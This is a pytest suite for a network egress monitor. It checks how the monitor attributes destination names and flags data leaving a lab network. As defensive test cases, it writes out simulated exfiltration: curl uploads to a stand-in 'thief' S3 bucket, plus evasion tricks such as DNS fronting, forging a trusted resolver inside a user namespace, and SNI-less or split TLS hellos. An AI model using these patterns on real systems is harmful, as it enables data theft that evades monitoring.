# SPDX-License-Identifier: MIT OR GPL-2.0-only
"""
Names of destinations, as real clients give them: what is asked for in TLS, HTTP and DNS, how far it is believed, whom entries by
name and bucket let through, whose bucket it is, and what goes unencrypted. The receivers count what came off the wire.
"""
import os
import shutil
import socket
import subprocess

import pytest

import work
from monitor import tagged, wait_for
from talker import NameServer, TlsSink, certificate
from where import PATIENCE

pytestmark = pytest.mark.one_set

SIZE = 300007
OTHERS = 200  # packets of whatever else this machine does meanwhile
PYTHON = "/usr/bin/python3"
API, MODELS, THIEF = "api.example.org", "approved-models.s3.eu-west-1.amazonaws.com", "thief.s3.eu-west-1.amazonaws.com"


@pytest.fixture
def cert(tmp):
    for tool in ("openssl", "curl"):
        if not shutil.which(tool):
            pytest.skip(f"{tool} is not installed")
    return certificate(tmp)


@pytest.fixture
def tls(cert):
    """tls(lab.internet): a web server over TLS; ended with the test."""
    made = []

    def start(host, versions=""):
        made.append(TlsSink(host, cert, versions))
        return made[-1]

    yield start
    for one in made:
        one.kill()


@pytest.fixture
def names(lab):
    """names({...}): a name server in the VPC; ended with the test."""
    made = []

    def start(table, host=lab.vpc, **options):
        made.append(NameServer(host, table, **options))
        return made[-1]

    yield start
    for one in made:
        one.kill()


@pytest.fixture
def run(tmp, job):
    """run(server, "curl ..."): with that name server in its resolv.conf; ended with the test."""
    made = []

    def start(server, script, wait=True, **options):
        conf = f"{tmp}/resolv.conf"
        with open(conf, "w", encoding="utf-8") as f:
            f.write(f"nameserver {server.ip}\noptions timeout:5 attempts:2\n" if server else "nameserver 127.0.0.7\n")
        script = f"mount --bind {conf} /etc/resolv.conf\nexec bash -c '{script}'"
        p = work.Process(tmp, f"run{len(made)}", ["unshare", "--mount", "bash", "-e", "-c", script], cgroup=job, **options)
        made.append(p)
        if wait:
            status = p.wait(4 * PATIENCE)
            assert status == 0, f"status {status}: {p.said()}"
        return p

    yield start
    for one in made:
        one.kill()


@pytest.fixture
def policy(lab, dataset):
    """policy(server, {"name": ...}): believes that name server, and allows that."""
    work.make_file(f"{dataset}/f", SIZE)

    def make(server=None, *allow, **network):
        more = {"resolvers": [server.ip]} if server else {}
        if allow:
            more["allow"] = list(allow)
        return tagged(dataset, network={**lab.network, **more, **network})
    return make


def upload(dataset, url, *words):
    return " ".join(["curl", "-sS", "-k", "--max-time", "60", "-o", "/dev/null", "-T", f"{dataset}/f", *words, url])


def remotes(r, sink):
    """The distinct ends there, as flow records tell them that carry something: before that nobody has said a name."""
    found = {}
    for f in r.of("flow", remote__addr=sink.ip, remote__port=sink.port, proto="tcp"):
        if f["bytes_out"] or f["bytes_in"]:
            found[str(f["remote"])] = f["remote"]
    return list(found.values())


def last_remote(r, sink):
    return [f["remote"] for f in r.of("flow") if f["remote"]["port"] == sink.port][-1]


def only_remote(r, sink):
    all_ = remotes(r, sink)
    assert len(all_) == 1, all_
    return all_[0]


def spoken(r, sink):
    """As agreed: what is told from the server's first word on."""
    return {f["encrypted"] for f in r.of("flow", remote__addr=sink.ip, remote__port=sink.port, proto="tcp") if f["bytes_in"]}


# --- TLS ---------------------------------------------------------------------------

def test_allowed_by_name(sluice, policy, dataset, lab, tls, names, run):
    s = tls(lab.internet)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": "*.example.org", "port": s.port}))
    run(d, upload(dataset, f"https://{API}:{s.port}/"))
    m.wait_records("the flow", lambda r: r.to(s) > SIZE)
    shown = [i for i in m.show("destinations")["items"] if i["remote"]["port"] == s.port]
    assert [(i["remote"]["name"], i["allowed"]) for i in shown] == [(API, True)]
    assert shown[0]["because"].startswith("network.allow[0], line ")
    r = m.stop()
    assert s.bodies() == SIZE
    assert r.to(s, "bytes_out") == s.bytes() > SIZE
    assert SIZE < r.to(s) <= s.bytes()
    end = only_remote(r, s)
    assert (end["name"], end["name_source"], end["name_belief"], end["name_note"]) == (API, "sni", "resolved", None)
    assert spoken(r, s) == {"tls1.3"}
    assert API in d.asked()
    assert r.findings() == {}


def test_not_allowed(sluice, policy, dataset, lab, tls, names, run, job):
    s = tls(lab.internet)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": "example.org"}, {"name": "*.api.example.org"}))
    run(d, upload(dataset, f"https://{API}:{s.port}/"))
    r = m.stop()
    f = r.exfil(s)
    assert f["leak_bound"] == min(s.bytes(), SIZE)
    assert f["remote"]["name"] == API
    assert f"to {API} ({s.ip}:{s.port}) outside the VPC" in f["title"]
    assert f["chain"][-1]["to"] == f"{API} ({s.ip}:{s.port})"


def test_fronting(sluice, policy, dataset, lab, tls, names, run):
    """The name is that of an allowed host; the address never was."""
    s = tls(lab.internet)
    d = names({API: ["203.0.113.250"]})
    m = sluice(policy(d, {"name": API}))
    run(d, f"getent ahostsv4 {API} >/dev/null; " + upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
    wait_for("the finding", lambda: m.now("findings")["items"])
    shown = [i for i in m.show("destinations")["items"] if i["remote"]["port"] == s.port]
    assert [(i["allowed"], i["because"]) for i in shown] == [(False, "its name resolved to other addresses, never to this one")]
    r = m.stop()
    assert only_remote(r, s)["name_belief"] == "fronted"
    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)


def test_only_claimed(sluice, policy, dataset, lab, tls, names, run):
    """No answer was ever seen for it: whoever connects to an address can say any name."""
    s = tls(lab.internet)
    d = names({})
    m = sluice(policy(d, {"name": API}))
    run(d, upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
    r = m.stop()
    assert only_remote(r, s)["name_belief"] == "claimed"
    assert r.exfil(s)["remote"]["name"] == API


def test_name_server_of_ones_own(sluice, policy, dataset, lab, tls, names, run):
    """An answer from a server that the host is not set up to ask proves nothing."""
    s = tls(lab.internet)
    believed, own = names({}), names({API: [s.ip]}, host=lab.office)
    m = sluice(policy(believed, {"name": API}))
    run(own, upload(dataset, f"https://{API}:{s.port}/"))
    r = m.stop()
    assert only_remote(r, s)["name_belief"] == "claimed"
    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
    assert API in own.asked()


def test_believed_address_in_a_namespace_of_ones_own(sluice, policy, dataset, lab, tls, names, run, tmp):
    """Whoever makes a network namespace by a user namespace can give himself the name server's address there."""
    s = tls(lab.internet)
    d = names({})
    forge = f"""
import os, socket, subprocess, sys, threading
sys.path.insert(0, "{os.path.dirname(os.path.abspath(__file__))}")
import talker
for words in (("link", "set", "lo", "up"), ("addr", "add", "{d.ip}/32", "dev", "lo")):
    subprocess.run(["ip", *words], check=True)
talker.serve_names("{d.ip}", {{"{API}": ["{s.ip}"]}})
print(socket.getaddrinfo("{API}", 80, proto=socket.IPPROTO_TCP)[0][4][0], flush=True)
"""
    with open(f"{tmp}/forge.py", "w", encoding="utf-8") as f:
        f.write(forge)
    m = sluice(policy(d, {"name": API}))
    p = run(d, f"unshare --user --map-root-user --net {PYTHON} {tmp}/forge.py")
    assert s.ip in p.said()
    run(d, upload(dataset, f"https://{API}:{s.port}/", "--resolve", f"{API}:{s.port}:{s.ip}"))
    r = m.stop()
    assert only_remote(r, s)["name_belief"] == "claimed"
    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
    assert d.asked() == []


def test_alias_and_tcp(sluice, policy, dataset, lab, tls, names, run):
    """By a chain of aliases, asked for over TCP."""
    s = tls(lab.internet)
    d = names({API: ["alias:edge.example.net"], "edge.example.net": [s.ip]})
    m = sluice(policy(d, {"name": API}))
    run(d, "export RES_OPTIONS=use-vc; " + upload(dataset, f"https://{API}:{s.port}/", "-4"))
    r = m.stop()
    assert r.to(s, "bytes_out") == s.bytes()
    assert only_remote(r, s)["name_belief"] == "resolved"
    assert r.findings() == {}


@pytest.mark.parametrize("version, word", [("TLSv1_2", "tls1.2"), ("TLSv1_3", "tls1.3")])
def test_versions(sluice, policy, dataset, lab, tls, names, run, version, word):
    """As agreed, not as offered."""
    s = tls(lab.internet, version)
    d = names({API: [s.ip]})
    m = sluice(policy(d))
    run(d, upload(dataset, f"https://{API}:{s.port}/"))
    r = m.stop()
    assert spoken(r, s) == {word}
    assert not r.findings("egress.plaintext")


UNNAMED = """
import socket, ssl, sys
c = ssl._create_unverified_context().wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2]))))
data = open(sys.argv[3], "rb").read()
c.sendall(b"PUT / HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
c.recv(100)
"""


def test_no_name(sluice, policy, dataset, lab, tls, names, run, tmp):
    """A client that asks for no name, at an address that resolved: no entry by name takes it."""
    s = tls(lab.internet)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": API}))
    with open(f"{tmp}/unnamed.py", "w", encoding="utf-8") as f:
        f.write(UNNAMED)
    run(d, f"getent ahostsv4 {API}; exec {PYTHON} {tmp}/unnamed.py {s.ip} {s.port} {dataset}/f")
    r = m.stop()
    end = only_remote(r, s)
    assert (end["name"], end["name_source"], end["name_belief"], end["name_note"]) == (API, "dns", "claimed", "no-sni")
    assert r.exfil(s)["leak_bound"] == min(s.bytes(), SIZE)
    assert spoken(r, s) == {"tls1.3"}


SLOWLY = """
import socket, ssl, sys, time
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
context = ssl._create_unverified_context()
client = context.wrap_bio(incoming, outgoing, server_hostname=sys.argv[1])
c = socket.create_connection((sys.argv[2], int(sys.argv[3])))
c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
data = open(sys.argv[4], "rb").read()


def push(step):
    while True:
        try:
            got = step()
            c.sendall(outgoing.read())
            return got
        except ssl.SSLWantReadError:
            hello = outgoing.read()
            for i in range(0, len(hello), 37):
                c.sendall(hello[i:i + 37])
                time.sleep(0.02)
            incoming.write(c.recv(65536))


push(client.do_handshake)
push(lambda: client.write(b"PUT / HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data)))
for i in range(0, len(data), 16384):
    push(lambda: client.write(data[i:i + 16384]))
push(lambda: client.read(100))
"""


def test_hello_in_pieces(sluice, policy, dataset, lab, tls, names, run, tmp):
    s = tls(lab.internet)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": API}))
    with open(f"{tmp}/slowly.py", "w", encoding="utf-8") as f:
        f.write(SLOWLY)
    run(d, f"getent ahostsv4 {API}; exec {PYTHON} {tmp}/slowly.py {API} {s.ip} {s.port} {dataset}/f")
    r = m.stop()
    assert s.bodies() == SIZE
    assert last_remote(r, s)["name"] == API
    assert r.findings() == {}


# --- plain -------------------------------------------------------------------------

def test_http(sluice, policy, dataset, lab, http, names, run):
    s = http(lab.internet)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": API}))
    run(d, upload(dataset, f"http://{API}:{s.port}/"))
    r = m.stop()
    end = only_remote(r, s)
    assert (end["name"], end["name_source"], end["name_belief"]) == (API, "http", "resolved")
    assert spoken(r, s) == {False}
    f = r.finding("egress.plaintext", s)
    assert f["leak_bound"] == min(s.bytes(), SIZE)
    assert f["severity"] in ("medium", "high", "critical")
    assert r.findings() == {}


def test_plain_in_the_vpc(sluice, policy, dataset, lab, sink, actor, job):
    """What ranks send each other: its record says so, and it is no finding."""
    s = sink(lab.vpc)
    m = sluice(policy())
    actor(f"read:{dataset}/f", s.to, "send:10007", cgroup=job).truth()
    r = m.stop()
    assert r.findings() == {} and not r.findings("egress.plaintext")
    assert r.to(s) == s.bytes() == 10007
    assert {f["encrypted"] for f in r.of("flow", remote__addr=s.ip, remote__port=s.port) if f["bytes_out"]} == {False}


def test_only_first_packets(sluice, policy, dataset, lab, sink, actor, job):
    """However much is sent, a few packets of a connection are looked into."""
    s = sink(lab.internet)
    m = sluice(policy())
    before = m.show("health")["health"]["names"]["packets"]
    actor(f"read:{dataset}/f", s.to, "send:300000007", cgroup=job).truth()
    r = m.stop()
    assert r.to(s) == s.bytes() == 300000007
    looked = r.of("health")[-1]["names"]["packets"] - before
    assert 0 < looked <= 64 + OTHERS, looked


def test_name_by_address(sluice, policy, dataset, lab, sink, names, run, actor, job):
    """What says no name goes by the one that its address was asked for, if there is only one."""
    s, other = sink(lab.internet), sink(lab.office)
    d = names({API: [s.ip], "one.example.org": [other.ip], "two.example.org": [other.ip]})
    m = sluice(policy(d, {"name": "*.example.org"}))
    run(d, f"for n in {API} one.example.org two.example.org; do getent ahostsv4 $n; done")
    for to in (s, other):
        actor(f"read:{dataset}/f", to.to, "send:10007", cgroup=job).truth()
    r = m.stop()
    end = only_remote(r, s)
    assert (end["name"], end["name_source"], end["name_belief"]) == (API, "dns", "resolved")
    assert not r.findings("exfil.volume", s)
    assert only_remote(r, other)["name"] is None
    assert r.exfil(other)["leak_bound"] == other.bytes() == 10007


# --- S3 ----------------------------------------------------------------------------

@pytest.mark.parametrize("where", ["internet", "vpc"])
def test_foreign_bucket(sluice, policy, dataset, lab, tls, names, run, job, where):
    """One address, two buckets: the approved one, and a thief's; through an endpoint in the VPC as well."""
    s = tls(getattr(lab, where))
    d = names({MODELS: [s.ip], THIEF: [s.ip]})
    m = sluice(policy(d, {"bucket": "approved-models"}, {"cidr": f"{s.ip}/32"}))
    for name in (MODELS, THIEF):
        run(d, upload(dataset, f"https://{name}:{s.port}/x"))
    r = m.stop()
    f, = r.findings().values()
    assert f["rule"] == "s3.foreign-bucket"
    assert (f["remote"]["bucket"], f["remote"]["service"], f["job"]) == ("thief", "s3", job.name)
    assert "sent at most" in f["title"] and "to bucket thief, which nothing allows" in f["title"]
    sent = {e["name"]: sum(i["bytes_out"] for i in r.of("flow") if i["remote"]["name"] == e["name"] and i["proto"] == "tcp")
            for e in remotes(r, s)}
    assert set(sent) == {MODELS, THIEF}
    assert sum(sent.values()) == s.bytes()
    assert f["leak_bound"] == min(sent[THIEF], SIZE)


# --- by a proxy --------------------------------------------------------------------

@pytest.mark.parametrize("scheme", ["http", "socks5h"])
def test_proxy(sluice, policy, dataset, lab, tls, names, run, job, scheme):
    """What it is asked for is where the bytes go, though its own address is inside."""
    s = tls(lab.vpc)
    d = names({})
    m = sluice(policy(d, {"name": API}))
    for name in (API, THIEF):
        run(d, upload(dataset, f"https://{name}/x", "--proxy", f"{scheme}://{s.at}"))
    r = m.stop()
    assert r.to(s, "bytes_out") == s.bytes() > 2 * SIZE
    assert r.classes(s) == {"vpc"}
    ends = {e["name"]: (e["name_source"], e["name_belief"]) for e in remotes(r, s) if e["name"]}
    assert ends == {API: ("connect", "proxy"), THIEF: ("connect", "proxy")}
    found = r.findings()
    assert {f["rule"] for f in found.values()} == {"exfil.volume", "s3.foreign-bucket"} and len(found) == 2
    assert {f["remote"]["name"] for f in found.values()} == {THIEF}
    assert f"to {THIEF} (by way of {s.at}) outside the VPC" in r.finding("exfil.volume", s)["title"]
    assert "tls1.3" in spoken(r, s)


# --- other clients -----------------------------------------------------------------

def client(name):
    if not shutil.which(name):
        pytest.skip(f"{name} is not installed")
    return name


def test_quic(sluice, policy, dataset, lab, sink, names, run):
    """A QUIC client's first packets, which nobody answers: sealed, but by a key that all can make."""
    client("gtlsclient")
    s = sink(lab.internet, udp=True)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": API}))
    run(d, f"mapfile -t x < {dataset}/f; gtlsclient -q --timeout=2s --handshake-timeout=2s {API} {s.port} https://{API}:{s.port}/ || true")
    r = m.stop()
    ends = [(f["remote"]["name"], f["remote"]["name_source"], f["remote"]["name_belief"], f["encrypted"])
            for f in r.of("flow", proto="udp") if f["remote"]["port"] == s.port]
    assert set(ends) == {(API, "quic", "resolved", "quic")}
    assert r.to(s, "bytes_out") == s.bytes() >= 1200
    assert r.findings() == {} and not r.findings("egress.plaintext")


SEGMENTED = """
import socket, struct, sys
api, port, hello, more = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "rb").read(), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((socket.gethostbyname(api), port))
size = len(hello)
stun = struct.pack("!HHI12sHH", 1, size - 20, 0x2112a442, b"0123456789ab", 0x8022, size - 24) + bytes(size - 24)
s.sendmsg([stun + hello * (1 + more)], [(17, 103, struct.pack("H", size))])  # SOL_UDP, UDP_SEGMENT
"""


def hello_of(name, tmp):
    """A QUIC client's first datagram, caught at loopback."""
    with open(f"{tmp}/hosts", "w", encoding="utf-8") as f:
        f.write(f"127.0.0.1 {name}\n")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        s.settimeout(PATIENCE)
        port = s.getsockname()[1]
        say = f"mount --bind {tmp}/hosts /etc/hosts; exec gtlsclient -q --timeout=1s --handshake-timeout=1s {name} {port} https://{name}:{port}/"
        with subprocess.Popen(["unshare", "--mount", "bash", "-e", "-c", say]) as p:
            hello = s.recv(65536)
            p.kill()
    with open(f"{tmp}/hello", "wb") as f:
        f.write(hello)
    return f"{tmp}/hello", len(hello)


def test_quic_segmented(sluice, policy, dataset, lab, sink, names, run, tmp):
    """Several datagrams as one packet, which the card cuts: the hello is in the second."""
    client("gtlsclient")
    hello, size = hello_of(API, tmp)
    s = sink(lab.internet, udp=True)
    d = names({API: [s.ip]})
    m = sluice(policy(d, {"name": API}))
    with open(f"{tmp}/send.py", "w", encoding="utf-8") as f:
        f.write(SEGMENTED)
    run(d, f"mapfile -t x < {dataset}/f; {PYTHON} {tmp}/send.py {API} {s.port} {hello} 5")
    r = m.stop()
    ends = [(f["remote"]["name"], f["remote"]["name_source"], f["remote"]["name_belief"], f["encrypted"])
            for f in r.of("flow", proto="udp") if f["remote"]["port"] == s.port]
    assert set(ends) == {(API, "quic", "resolved", "quic")}
    assert r.to(s, "bytes_out") == s.bytes() == 7 * size


AWS_CONFIG = """
[default]
region = eu-west-1
s3 =
    addressing_style = virtual
"""


def test_awscli(sluice, policy, dataset, lab, tls, names, run, tmp):
    """AWS's own client, which puts the bucket before the endpoint's name."""
    client("aws")
    s = tls(lab.internet)
    d = names({THIEF: [s.ip], MODELS: [s.ip]})
    with open(f"{tmp}/aws", "w", encoding="utf-8") as f:
        f.write(AWS_CONFIG)
    m = sluice(policy(d, {"bucket": "approved-models"}))
    settings = f"AWS_CONFIG_FILE={tmp}/aws AWS_ACCESS_KEY_ID=ASIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=x AWS_SESSION_TOKEN=x"
    for bucket in ("approved-models", "thief"):
        run(d, f"env {settings} aws --endpoint-url https://s3.eu-west-1.amazonaws.com:{s.port} --no-verify-ssl "
            f"s3api put-object --bucket {bucket} --key x --body {dataset}/f")
    r = m.stop()
    assert s.bodies() >= 2 * SIZE
    assert r.to(s, "bytes_out") == s.bytes()
    buckets = {e["bucket"]: (e["service"], e["name_belief"]) for e in remotes(r, s)}
    assert buckets == {"approved-models": ("s3", "resolved"), "thief": ("s3", "resolved")}
    assert {(f["rule"], f["remote"]["bucket"]) for f in r.findings().values()} == {("s3.foreign-bucket", "thief"),
                                                                                  ("exfil.volume", "thief")}
